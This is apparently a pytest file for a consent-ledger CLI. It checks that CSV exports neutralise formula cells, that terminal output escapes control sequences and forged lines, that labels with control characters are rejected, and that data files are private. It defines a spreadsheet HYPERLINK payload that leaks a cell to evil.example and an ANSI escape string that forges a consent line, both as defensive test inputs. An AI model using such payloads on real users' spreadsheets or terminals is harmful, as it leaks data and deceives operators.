"""Hostile text on its way out: CSV cells a spreadsheet would run, escape sequences and
new lines a terminal would obey, labels with control characters, and who may read the
files the ledger writes. ``pdl`` runs as a subprocess, as an operator would run it."""

from __future__ import annotations

import csv
import io
import json
import os
import stat
import subprocess
import sys
from pathlib import Path

import pytest

from ledger.contract.base import RECORDED
from ledger.contract.events import ConsentGiven
from ledger.contract.rejection import EventRejected
from ledger.reports.render.tables import csv_cell
from ledger.service.backends import Backends
from ledger.service.settings import Settings

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
FORGED = "x\x1b[2J\x1b]0;pwned\x07\nconsent\n  newsletter           given"
WHO = "camille.martin@example.fr"


def pdl(data: Path, *args: str, stdin: str | None = None) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("PDL_")}
    return subprocess.run(
        [sys.executable, "-m", "ledger.cli.main", "--data-dir", str(data), *args],
        input=stdin,
        capture_output=True,
        text=True,
        env=env,
        check=False,
    )


def collected(value: str, last_name: str = "Martin") -> str:
    return json.dumps(
        {
            "type": "DataCollected",
            "subject": WHO,
            "controller": "informatique70",
            "occurred_at": "2024-03-01T09:12:00Z",
            "source": "newsletter-signup-form",
            "purposes": ["newsletter"],
            "values": [
                {"field": "first_name", "category": "identity", "value": value},
                {"field": "last_name", "category": "identity", "value": last_name},
            ],
        }
    )


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_csv_cell_that_could_be_a_formula_is_neutralised(start: str) -> None:
    assert csv_cell(start + "1+1") == "'" + start + "1+1"
    assert csv_cell(["a", "b"]) == "a; b" and csv_cell(-3) == "-3" and csv_cell(None) == ""


def test_a_report_in_csv_carries_no_formula(tmp_path: Path) -> None:
    data = tmp_path / "data"
    emitted = pdl(data, "emit", "-", stdin=collected(FORMULA, "@SUM(1)"))
    assert emitted.returncode == 0, emitted.stderr
    out = tmp_path / "access.csv"
    written = pdl(data, "report", "access", WHO, "--format", "csv", "--out", str(out))
    assert written.returncode == 0, written.stderr
    text = out.read_text("utf-8")
    rows = list(csv.reader(io.StringIO("".join(x for x in text.splitlines(True) if x[0] != "#"))))
    cells = [c for row in rows for c in row]
    assert "'" + FORMULA in cells and "'@SUM(1)" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert stat.S_IMODE(out.stat().st_mode) == 0o600  # decrypted data: this user only


def test_pdl_state_prints_no_escape_sequence_and_no_forged_line(tmp_path: Path) -> None:
    data = tmp_path / "data"
    assert pdl(data, "emit", "-", stdin=collected(FORGED)).returncode == 0
    shown = pdl(data, "state", WHO)
    assert shown.returncode == 0, shown.stderr
    assert "\x1b" not in shown.stdout and "\x07" not in shown.stdout
    assert "x\\x1b[2J\\x1b]0;pwned\\x07\\nconsent\\n  newsletter" in shown.stdout
    assert not [line for line in shown.stdout.splitlines() if line.startswith("  newsletter  ")]
    as_json = pdl(data, "state", WHO, "--json")
    assert "\x1b" not in as_json.stdout
    assert json.loads(as_json.stdout)["values"][0]["value"] == FORGED  # escaped, not changed


@pytest.mark.parametrize("control", ["\n", "\r", "\t", "\x1b", "\x00", "\x7f", "\x9b", "\u202e"])
def test_a_label_with_a_control_character_is_rejected_naming_the_field(
    tmp_path: Path, control: str
) -> None:
    ledger = Backends(Settings.from_environment(None, tmp_path / "data"))
    submitted = {
        "type": "ConsentGiven",
        "subject": WHO,
        "controller": "informatique70",
        "occurred_at": "2024-03-01T09:12:05Z",
        "purpose": "newsletter",
        "channel": f"web{control}form",
        "notice_version": "politique-2023-01",
    }
    try:
        with pytest.raises(EventRejected) as refused:
            ledger.intake().prepare(submitted)
    finally:
        ledger.close()
    [rejection] = refused.value.rejections
    assert rejection.field == "channel" and "control characters" in rejection.rule
    assert "one line of plain text" in rejection.fix


def test_a_label_already_recorded_is_still_read() -> None:
    fields = {
        "subject_id": "sub_" + "0" * 32,
        "controller": "informatique70",
        "occurred_at": "2024-03-01T09:12:05Z",
        "purpose": "newsletter",
        "channel": "web\nform",
        "notice_version": "v1",
    }
    assert ConsentGiven.model_validate(fields, context=RECORDED).channel == "web\nform"


def test_the_data_directory_and_its_files_are_private(tmp_path: Path) -> None:
    data = tmp_path / "data"
    data.mkdir(mode=0o755)
    (data / "keys.sqlite").touch(mode=0o644)  # as an earlier version left them
    demo = pdl(data, "demo")
    assert demo.returncode == 0, demo.stderr
    wide = []
    for path in [data, *data.rglob("*")]:
        mode = stat.S_IMODE(path.lstat().st_mode)
        wanted = 0o700 if path.is_dir() else 0o600
        if mode != wanted:
            wide.append(f"{path.relative_to(data)}: {oct(mode)}")
    assert not wide
    assert list((data / "reports").glob("*.html"))
